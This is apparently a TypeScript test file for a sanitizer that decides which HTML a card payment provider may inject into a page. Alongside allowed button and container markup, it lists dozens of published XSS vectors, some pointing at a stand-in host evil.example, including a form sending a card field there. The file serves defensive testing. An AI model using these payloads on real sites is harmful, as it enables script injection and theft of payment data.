import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { isQuietHtml } from './quiet-html.ts'

/** Markup of the buttons of braintree-web, Cardinal, Google and PayPal. */
const needed = [
  '',
  'Pay',
  '<div data-braintree-v1-fallback-iframe-container="true" style="height: 400px;"></div>',
  '<div class="gpay-card-info-container" role="button"><span class="label">Pay with</span></div>',
  '<button type="button" class="paypal-button" aria-label="PayPal" tabindex="0"><span>Pay</span></button>',
  '<div id="sheet"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24"><path d="M0 0L3 4z" fill="#fff"/></svg></div>',
]

/** Published ways of running script from markup: OWASP, PortSwigger, cure53's list, mutation XSS of 2019 to 2024. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<svg/onload=alert(1)>',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x/>#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><desc><div></div></desc></svg>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img src=`x`onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6a;avascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<meta http-equiv=refresh content=0;url=javascript:alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel=import href=//evil.example>',
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<button formaction="https://evil.example">x</button>',
  '<button type="submit">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input name="cardnumber">',
  '<details open ontoggle=alert(1)></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>',
  '<math><annotation-xml encoding="text/html"><p></p></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode="open"><slot></slot></template>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<plaintext>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style><!--</style><script>alert(1)</script>',
  '<div style="background:url(https://evil.example/?c)"></div>',
  '<div style="background-image:image-set(x)"></div>',
  '<div style="width:expression(alert(1))"></div>',
  '<div style="x:\\75rl(//evil.example)"></div>',
  '<div onclick="alert(1)"></div>',
  '<div ONCLICK="alert(1)"></div>',
  '<div/onclick="alert(1)"></div>',
  '<div\u000conclick="alert(1)"></div>',
  '<div class="x"onclick="alert(1)"></div>',
  '<div class=\'x\' onclick="alert(1)"></div>',
  '<div class="x" class="y"></div>',
  '<div id="a" nonce="x"></div>',
  '<div is="x-card"></div>',
  '<div slot="x"></div>',
  '<div contenteditable="true"></div>',
  '<div data-x="&quot; onclick=alert(1)"></div>',
  '<div class="x\u0000y"></div>',
  '<div',
  '<div>',
  '</div>',
  '<div></span></div>',
  '<div/>text',
  '<p><div></div></p>',
  '<p><p></p></p>',
  '<svg><div></div></svg>',
  '<svg><svg></svg></svg>',
  '<path d="M0 0"/>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- x -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?>',
  '<!doctype html>',
  '&lt;script&gt;',
  '<x-card></x-card>',
  '<slot onslotchange=alert(1)>',
  '<portal src="https://evil.example">',
  '<frameset onload=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<table><td><a id="x"></td></table>',
  "'-alert(1)-'<",
]

describe('what a card provider may write into the page [T16] [T27]', () => {
  it.each(needed)('includes containers, buttons and icons: %j', (html) => {
    expect(isQuietHtml(html)).toBe(true)
  })

  it.each(vectors)('never includes %j', (html) => {
    expect(isQuietHtml(html)).toBe(false)
  })

  it('never includes a mixture that contains one of those', () => {
    const part = fc.oneof(
      fc.constantFrom(...needed),
      fc.string(),
      fc.constantFrom('<', '>', '"', "'", '&', ' ', '/', '<div ', '</div>'),
    )
    const mixture = fc.tuple(
      fc.array(part, { maxLength: 4 }),
      fc.constantFrom(...vectors),
      fc.array(part, { maxLength: 4 }),
    )
    fc.assert(
      fc.property(mixture, ([before, vector, after]) => {
        // Two halves may be valid together: an unclosed <div> is closed by a </div> that follows.
        const html = [...before, vector, ...after].join('')
        return !isQuietHtml(html) || isHarmless(html)
      }),
      { numRuns: 3_000 },
    )
  })

  it('is parsed by a browser as it was parsed here, and as nothing that runs', () => {
    const words = [
      '<div>',
      '</div>',
      '<span class="a">',
      '</span>',
      '<p>',
      '</p>',
      '<svg>',
      '</svg>',
      '<path d="M0"/>',
      '<button type="button">',
      '</button>',
      'x',
      ' ',
      '<g>',
      '</g>',
      '<svg/>',
      '<!--',
      '<style>',
      '&lt;',
      '<a href="x">',
    ]
    let passed = 0
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...words), { maxLength: 8 }), (written) => {
        const html = written.join('')
        if (!isQuietHtml(html)) return true
        passed += 1
        return isHarmless(html)
      }),
      { numRuns: 5_000 },
    )
    expect(passed).toBeGreaterThan(50)
  })

  it('is decided quickly for input of any length and content [T20]', () => {
    for (const part of ['<div ', '<div class="', '<svg>', 'a="b" ', '<', '\t'])
      for (const html of [part.repeat(5_000).slice(0, 20_000), `<div ${part.repeat(4_000)}`]) {
        const begun = performance.now()
        isQuietHtml(html)
        expect(performance.now() - begun, part).toBeLessThan(1_000)
      }
  })
})

/** Parsed and serialised by a real parser: only listed elements, no handler, no URL, and the same the second time. */
function isHarmless(html: string): boolean {
  const read = (text: string) => new DOMParser().parseFromString(text, 'text/html').body
  const once = read(html)
  const every = [...once.querySelectorAll('*')]
  return (
    once.innerHTML === read(once.innerHTML).innerHTML &&
    every.every(
      (element) =>
        /^(div|span|p|button|svg|g|path|circle|rect|line|polygon)$/i.test(element.tagName) &&
        [...element.attributes].every(({ name }) => !/^on|href|src|action|srcdoc/i.test(name)),
    )
  )
}
